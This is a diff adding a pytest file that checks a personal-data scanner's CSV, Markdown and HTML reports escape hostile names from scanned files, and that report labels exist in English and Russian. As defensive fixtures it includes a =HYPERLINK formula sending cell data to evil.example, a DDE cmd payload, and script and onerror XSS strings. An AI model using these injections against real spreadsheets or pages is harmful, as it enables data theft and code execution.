@@ -1,0 +1,127 @@
+"""Texts from scanned files reach spreadsheets, Markdown and HTML as written and never as
+formulas, markup or links; and every label the reports use exists in every language."""
+
+from __future__ import annotations
+
+import csv
+import io
+from html.parser import HTMLParser
+from typing import ClassVar
+
+import pytest
+import yaml
+from markdown_it import MarkdownIt
+from report_factory import report, verdict
+
+from pdscan.formats.csv import CsvFormat
+from pdscan.formats.html import HtmlFormat
+from pdscan.formats.markdown import MarkdownFormat
+from pdscan.formats.wording import Wording, languages
+from pdscan.model import SourceKind, VerdictKind
+from pdscan.policy import load_policy
+
+HOSTILE = (
+    '=HYPERLINK("https://evil.example/?"&A1)',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTAB",
+    "\rCR",
+)
+
+
+def wording(lang: str = "en") -> Wording:
+    return Wording.build(load_policy(), lang)
+
+
+def hostile_report() -> object:
+    return report(
+        tuple(
+            verdict(name, "user.contact.email", "email", VerdictKind.UNDECLARED, table="users", fingerprint=f"{i:016x}")
+            for i, name in enumerate(HOSTILE)
+        )
+    )
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_made_text() -> None:
+    text = CsvFormat(wording=wording()).format(hostile_report())
+    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+    columns = {row[3] for row in rows[1:]}
+    assert columns == {"'" + name for name in HOSTILE}
+    for row in rows[1:]:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+    explanation = rows[1][13]
+    assert explanation.startswith("`users."), "cells that do not start like a formula are left as written"
+
+
+def test_markdown_shows_names_as_written_and_never_as_markup() -> None:
+    odd = ("a|b", "*bold*", "_x_", "[link](https://evil.example)", "<img src=x>", "back\\slash")
+    built = report(
+        tuple(
+            verdict(name, "user.contact.email", "email", VerdictKind.UNDECLARED, fingerprint=f"{i:016x}")
+            for i, name in enumerate(odd)
+        )
+    )
+    tokens = MarkdownIt("commonmark").enable("table").parse(MarkdownFormat(wording=wording()).format(built))
+    cells = [tokens[i + 1] for i, t in enumerate(tokens) if t.type == "td_open"]
+    shown = ["".join(child.content for child in cell.children or []) for cell in cells]
+    places = {text for text in shown if text.startswith("customers.")}
+    assert places == {f"customers.{name}" for name in odd}
+    inline_types = {child.type for cell in cells for child in cell.children or []}
+    assert inline_types <= {"text", "code_inline", "softbreak"}, "no emphasis, link or raw HTML"
+
+
+def test_html_escapes_everything_from_scanned_files() -> None:
+    built = report(
+        (
+            verdict("<script>alert(1)</script>", "user.contact.email", "email", VerdictKind.UNDECLARED),
+            verdict("x", "user.contact.email", "email", VerdictKind.OK, table='t"><img src=x onerror=alert(1)>'),
+        )
+    )
+    page = HtmlFormat(wording=wording()).format(built)
+
+    class Tags(HTMLParser):
+        found: ClassVar[list[str]] = []
+
+        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+            self.found.append(tag)
+
+    parser = Tags()
+    parser.feed(page)
+    assert "script" not in parser.found and "img" not in parser.found
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
+
+
+def test_a_log_finding_without_a_field_is_free_text_in_the_reader_s_language() -> None:
+    free = verdict(None, "user.contact.email", "email", VerdictKind.UNDECLARED, source_kind=SourceKind.LOG,
+                   table=None, source="app.log", database="app.log", line=None)  # fmt: skip
+    assert "app.log: (free text)" in MarkdownFormat(wording=wording()).format(report((free,)))
+    assert "app.log: (свободный текст)" in HtmlFormat(wording=wording("ru")).format(report((free,)))
+
+
+def test_every_label_exists_in_every_language() -> None:
+    from importlib.resources import files
+
+    document = yaml.safe_load((files("pdscan.rules") / "labels.yaml").read_text("utf-8"))
+    assert languages() == ("en", "ru")
+    for key, texts in document["labels"].items():
+        assert set(texts) == set(languages()), f"{key}: {texts}"
+        assert all(isinstance(text, str) and text.strip() for text in texts.values()), key
+
+
+@pytest.mark.parametrize("lang", ["en", "ru"])
+def test_every_verdict_kind_and_status_has_words(lang: str) -> None:
+    words = wording(lang)
+    for kind in VerdictKind:
+        assert words.verdict(kind)
+    for kind in SourceKind:
+        assert words(f"kind.{kind.value}")
+    for status in ("scanned", "partial", "skipped"):
+        assert words(f"status.{status}")
+    assert words.category_title("email") == ("Адрес электронной почты" if lang == "ru" else "E-mail address")
+    assert words.clause_words("email") == "д) Адрес электронный почты", "the clause is quoted, never translated"
+
+
+def test_an_unknown_language_is_refused() -> None:
+    with pytest.raises(KeyError):
+        wording("fr")
